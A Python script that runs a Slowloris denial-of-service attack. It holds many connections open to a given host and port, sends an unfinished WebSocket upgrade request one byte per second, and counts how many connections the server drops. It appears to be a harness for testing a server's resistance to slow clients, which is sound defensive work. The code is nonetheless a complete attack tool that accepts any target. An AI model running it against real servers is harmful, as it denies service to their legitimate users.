"""Slowloris, run as its own process: COUNT connections from one source address, each sending an
upgrade request one byte a second and never finishing it. Prints "attacking" once every socket
has connected, and at the end a JSON line with how many the server had cut.

Usage: python slowloris.py HOST PORT COUNT SECONDS SOURCE
"""

from __future__ import annotations

import json
import select
import socket
import sys
import time

REQUEST = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nX-Slow: " + b"a" * 200


def main() -> int:
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    seconds, source = float(sys.argv[4]), sys.argv[5]
    socks: list[socket.socket] = []
    refused = 0
    for _ in range(count):
        sock = socket.socket()
        sock.bind((source, 0))
        sock.settimeout(2)
        try:
            sock.connect((host, port))
        except OSError:
            refused += 1
            sock.close()
            continue
        sock.setblocking(False)
        socks.append(sock)
    sys.stdout.write("attacking\n")
    sys.stdout.flush()
    deadline = time.monotonic() + seconds
    sent = 0
    alive = set(socks)
    while time.monotonic() < deadline and alive:
        started = time.monotonic()
        for sock in list(alive):
            try:
                sock.send(REQUEST[sent % len(REQUEST) : sent % len(REQUEST) + 1])
            except OSError:
                alive.discard(sock)
        sent += 1
        # a socket the server closed reads as EOF (or reset); poll, as select() stops at fd 1024
        poller = select.poll()
        by_fd = {sock.fileno(): sock for sock in alive}
        for fd in by_fd:
            poller.register(fd, select.POLLIN)
        for fd, _ in poller.poll(0):
            sock = by_fd[fd]
            try:
                if not sock.recv(4096):
                    alive.discard(sock)
            except BlockingIOError:
                continue
            except OSError:
                alive.discard(sock)
        time.sleep(max(0.0, 1.0 - (time.monotonic() - started)))
    report = {"opened": len(socks), "refused": refused, "cut": len(socks) - len(alive), "bytes_each": sent}
    for sock in socks:
        sock.close()
    sys.stdout.write(json.dumps(report) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
